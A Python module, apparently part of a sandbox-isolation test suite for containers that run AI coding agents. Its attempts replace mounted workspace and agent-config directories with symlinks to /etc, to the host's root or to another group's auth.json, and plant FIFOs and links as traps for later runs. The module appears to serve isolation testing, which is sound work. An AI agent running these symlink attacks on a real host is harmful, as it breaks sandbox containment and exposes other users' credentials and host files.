"""Replacing what the host mounts, reads or writes at the next run. What these leave behind, the next run finds."""

import os
import shutil
from pathlib import Path

from .attempt import LAST, Lab, attempt

_KEPT = ("EBUSY", "EROFS", "EACCES", "EPERM", "EXDEV", "ENOTEMPTY", "ENOENT")
TARGETS = (
    *("/workspace/group", "/workspace/global", "/workspace/ipc", "/workspace/ipc/messages", "/workspace/ipc/tasks"),
    *("/workspace/media", "/home/node/.claude", "/home/node/.codex", "/run/nanoclaw"),
)
"""Where every directory of a group is mounted."""

for _target in TARGETS:

    @attempt("rearranging", f"rename {_target} and put a link in its place", *_KEPT, phase=LAST)
    def _(_: Lab, target: str = _target) -> str:
        os.rename(target, f"{target}.old")
        os.symlink("/etc", target)
        return "it was replaced"

    @attempt("rearranging", f"remove {_target}", *_KEPT, phase=LAST)
    def _(_: Lab, target: str = _target) -> str:
        os.rmdir(target)
        return "it was removed"

    @attempt("rearranging", f"exchange {_target} for a directory of its own", *_KEPT, phase=LAST)
    def _(_: Lab, target: str = _target) -> str:
        own = Path("/workspace/group/own")
        own.mkdir(exist_ok=True)
        os.rename(own, target)
        return "it was replaced"


def _clear(path: Path) -> None:
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    else:
        path.unlink(missing_ok=True)


def _trap(place: str, title: str, to: str) -> None:
    @attempt("rearranging", f"{place} as {title}", "left behind", phase=LAST)
    def _(lab: Lab) -> str:
        path = Path(place)
        _clear(path)
        path.parent.mkdir(parents=True, exist_ok=True)
        if to == "fifo":
            os.mkfifo(path)
        elif to == "directory":
            (path / "inside").mkdir(parents=True)
        else:
            path.symlink_to(lab["hidden"].get(to, to))
        return "left behind"  # the host's side, and the next run, look what became of it


TRAPS = (
    ("/home/node/.codex/auth.json", "a link to another group's login", "other login"),
    ("/home/node/.codex/config.toml", "a link to a file of the host", "bait"),
    ("/workspace/group/CLAUDE.md", "a link to a file of the host", "bait"),
    ("/workspace/group/conversations", "a link to a directory of the host", "bait directory"),
    ("/home/node/.claude/projects", "a link to a directory of the host", "bait directory"),
    ("/home/node/.claude/settings.json", "a pipe", "fifo"),
    ("/workspace/group/.git", "a link to a directory of the host", "bait directory"),
    ("/workspace/group/logs", "a link to the host's root", "/"),
)
"""Place, what it becomes, and where a link leads: a key of `lab["hidden"]`, or a path."""

SECOND_TRAPS = (
    ("/home/node/.codex/auth.json", "a pipe", "fifo"),
    ("/home/node/.codex/config.toml", "a directory", "directory"),
    ("/workspace/group/CLAUDE.md", "a pipe", "fifo"),
    ("/home/node/.codex/sessions", "a link to a directory of the host", "bait directory"),
)
"""For one run more."""

for _place, _title, _to in TRAPS:
    _trap(_place, _title, _to)


def lay_second_traps(lab: Lab) -> None:
    """What the third run of the group finds."""
    for place, _, to in SECOND_TRAPS:
        path = Path(place)
        _clear(path)
        if to == "fifo":
            os.mkfifo(path)
        elif to == "directory":
            (path / "inside").mkdir(parents=True)
        else:
            path.symlink_to(lab["hidden"].get(to, to))
